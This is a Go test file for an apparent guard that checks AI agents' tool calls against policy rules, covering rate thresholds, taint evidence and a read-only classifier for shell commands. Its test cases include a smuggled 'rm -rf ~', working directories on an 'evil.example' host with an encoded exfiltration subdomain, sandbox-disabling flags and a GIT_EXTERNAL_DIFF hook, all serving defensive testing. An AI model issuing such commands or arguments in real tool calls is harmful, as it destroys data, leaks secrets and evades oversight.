package policy_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/turnguard/turnguard/internal/core/acs"
	"github.com/turnguard/turnguard/internal/core/policy"
	"github.com/turnguard/turnguard/internal/core/turnstate"
)

func compile(t *testing.T, src string) *policy.Set {
	t.Helper()
	f, err := policy.ParseFile("inline.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	rs, err := policy.Compile([]*policy.File{f})
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

func toolCall(t *testing.T, seq uint64, at time.Time, partition int) policy.Input {
	t.Helper()
	var req acs.Request
	raw := `{"jsonrpc":"2.0","method":"steps/toolCallRequest","id":1,"params":{"acs_version":"0.1.0","request_id":"r","timestamp":"x","metadata":{"agent_id":"a","session_id":"s"},"payload":{"tool":{"name":"x"},"arguments":{}}}}`
	if err := json.Unmarshal([]byte(raw), &req); err != nil {
		t.Fatal(err)
	}
	return policy.Input{Spec: acs.LookupMethod("steps/toolCallRequest"), Req: &req, Payload: map[string]any{"tool": map[string]any{"name": "x"}},
		Seq: seq, Time: at, Partition: partition}
}

// An envelope decided again (a redelivery after a crash, or a batch decided
// again after a lost revision race) is not counted twice by an agent-keyed
// threshold: the agent state remembers what each partition counted.
func TestAgentCountsAreIdempotent(t *testing.T) {
	rs := compile(t, `apiVersion: turnguard/v1
kind: RuleSet
metadata: {name: t}
rules:
  - {id: R, title: r, severity: low, on: [toolCallRequest], when: "true", threshold: {max: 2, within: {duration: 1m}, key: agent}, decision: deny}
`)
	agent := turnstate.NewAgent("t", "a")
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	count := func(seq uint64, partition int, sec int) (int, bool) {
		res := rs.Evaluate(turnstate.New("t", "s"), agent, toolCall(t, seq, t0.Add(time.Duration(sec)*time.Second), partition))
		return len(agent.Counters["R"].Times), res.AgentChanged
	}
	if n, changed := count(5, 0, 0); n != 1 || !changed {
		t.Fatalf("first count: %d, changed %v", n, changed)
	}
	if n, changed := count(5, 0, 0); n != 1 || changed {
		t.Fatalf("the same envelope again counted: %d, changed %v", n, changed)
	}
	if n, _ := count(3, 1, 1); n != 2 {
		t.Fatalf("another partition's earlier sequence must count: %d", n)
	}
	res := rs.Evaluate(turnstate.New("t", "s2"), agent, toolCall(t, 6, t0.Add(2*time.Second), 0))
	if len(res.Hits) != 1 || res.Hits[0].Count != 3 {
		t.Fatalf("third call within the minute: %+v", res.Hits)
	}
	if agent.Applied["0"] != 6 || agent.Applied["1"] != 3 {
		t.Fatalf("applied %v", agent.Applied)
	}
	if res := rs.Evaluate(turnstate.New("t", "s"), nil, toolCall(t, 7, t0, 0)); len(res.Errors) != 1 {
		t.Fatalf("an agent-keyed rule without agent state must report an error, got %+v", res)
	}
}

// TestTaintEvidenceToolNameIsTruncated: the tool name a taint keeps as
// evidence is cut to acs.MaxEvidenceBytes (as stored) at a character
// boundary, while the rules still see the whole name.
func TestTaintEvidenceToolNameIsTruncated(t *testing.T) {
	rs := compile(t, `apiVersion: turnguard/v1
kind: RuleSet
metadata: {name: t}
taints:
  - id: seen
    sources:
      - {id: long-tool, when: 'size(tool.name) > 300'}
    window: {turns: 1}
rules: []
`)
	for _, tc := range []struct {
		name, tool, want string
	}{
		{"ASCII", strings.Repeat("t", 400), strings.Repeat("t", acs.MaxEvidenceBytes)},
		// '€' has three bytes: 85 fit in 256, and the cut falls between characters.
		{"multi-byte", strings.Repeat("€", 301), strings.Repeat("€", 85)},
		// '<' is stored as six bytes.
		{"escaped", strings.Repeat("<", 301), strings.Repeat("<", 42)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := toolCall(t, 1, time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), 0)
			in.Payload = map[string]any{"tool": map[string]any{"name": tc.tool}}
			s := turnstate.New("t", "s")
			rs.Evaluate(s, nil, in)
			taint := s.Taints["seen"]
			if taint == nil {
				t.Fatal("the rule did not see the whole tool name: no taint")
			}
			if taint.First.Tool != tc.want {
				t.Fatalf("evidence tool name: %d bytes (stored %d), want %d", len(taint.First.Tool), acs.StoredLen(taint.First.Tool), len(tc.want))
			}
		})
	}
}

// TestPathPartsReadThroughMacro: tool.path_parts is filled for a rule set
// that reads it only through a macro, so a condition written that way
// does not see it empty (fail open).
func TestPathPartsReadThroughMacro(t *testing.T) {
	rs := compile(t, `apiVersion: turnguard/v1
kind: RuleSet
metadata: {name: t}
lists:
  dirs: [Inbox]
macros:
  under: 'tool.path_parts.exists(p, p in $dirs)'
rules:
  - {id: R, title: r, severity: low, on: [toolCallRequest], when: "$under", decision: deny}
`)
	for _, tc := range []struct {
		path string
		deny bool
	}{{"/home/dev/Inbox/x.eml", true}, {"/home/dev/Outbox/x.eml", false}} {
		in := toolCall(t, 1, time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), 0)
		in.Payload = map[string]any{"tool": map[string]any{"name": "x"}, "arguments": map[string]any{"path": map[string]any{"value": tc.path}}}
		res := rs.Evaluate(turnstate.New("t", "s"), nil, in)
		if got := len(res.Hits) == 1; got != tc.deny {
			t.Errorf("%s: hits %+v, want a hit %v", tc.path, res.Hits, tc.deny)
		}
	}
}

// TestReadsOnly: tool.reads_only is filled for a rule set that reads it
// through a macro, and is true only when every sink of the call is a
// command that only reads.
func TestReadsOnly(t *testing.T) {
	rs := compile(t, `apiVersion: turnguard/v1
kind: RuleSet
metadata: {name: t}
macros:
  reading: 'tool.reads_only'
tools:
  - {match: "Bash", sinks: [command, raw_command]}
rules:
  - {id: R, title: r, severity: low, on: [toolCallRequest], when: "$reading", decision: deny}
`)
	arg := func(v any) map[string]any { return map[string]any{"value": v} }
	for _, tc := range []struct {
		name    string
		payload map[string]any
		reads   bool
	}{
		{"a reading line", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("git status"), "description": arg("status")}}, true},
		{"an acting line", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("git push")}}, false},
		{"a reading argument vector", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg([]any{"bash", "-lc", "ls"})}}, true},
		{"a raw_command that acts beside a reading line", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls")}, "raw_command": "ls; rm -rf ~"}, false},
		{"a command not a line or a vector", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg(map[string]any{"x": 1})}}, false},
		{"no command", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"description": arg("x")}}, false},
		{"a description and a timeout beside it", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "description": arg("x"), "timeout": arg(1000), "run_in_background": arg(true)}}, true},
		{"Cursor's explanation beside it", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "explanation": arg("list"), "is_background": arg(false)}}, true},
		{"the sandbox switched off", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "dangerouslyDisableSandbox": arg(true)}}, false},
		{"escalated", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "with_escalated_permissions": arg(true)}}, false},
		{"a working directory on a share", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "workdir": arg(`\\evil.example\share`)}}, false},
		{"a working directory automounted", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "workdir": arg("/net/c2VjcmV0.evil.example/x")}}, false},
		{"a working directory not a string", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "workdir": arg([]any{"a"})}}, false},
		{"an environment beside it", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("git log -p"), "env": arg(map[string]any{"GIT_EXTERNAL_DIFF": "./x.sh"})}}, false},
		{"another shell named beside it", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "shell": arg("pwsh")}}, false},
		{"a working directory for ls", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("ls"), "workdir": arg("vendor/x")}}, true},
		{"a working directory for git", map[string]any{"tool": map[string]any{"name": "Bash"}, "arguments": map[string]any{"command": arg("git status"), "workdir": arg("vendor/x.git")}}, false},
		// Sinks unknown: every argument is one, and host is not a command.
		{"a sink that is not a command", map[string]any{"tool": map[string]any{"name": "mcp__ssh__run"}, "arguments": map[string]any{"command": arg("ls"), "host": arg("prod")}}, false},
	} {
		in := toolCall(t, 1, time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), 0)
		in.Payload = tc.payload
		res := rs.Evaluate(turnstate.New("t", "s"), nil, in)
		if got := len(res.Hits) == 1; got != tc.reads {
			t.Errorf("%s: hits %+v, want reads_only %v", tc.name, res.Hits, tc.reads)
		}
	}
}
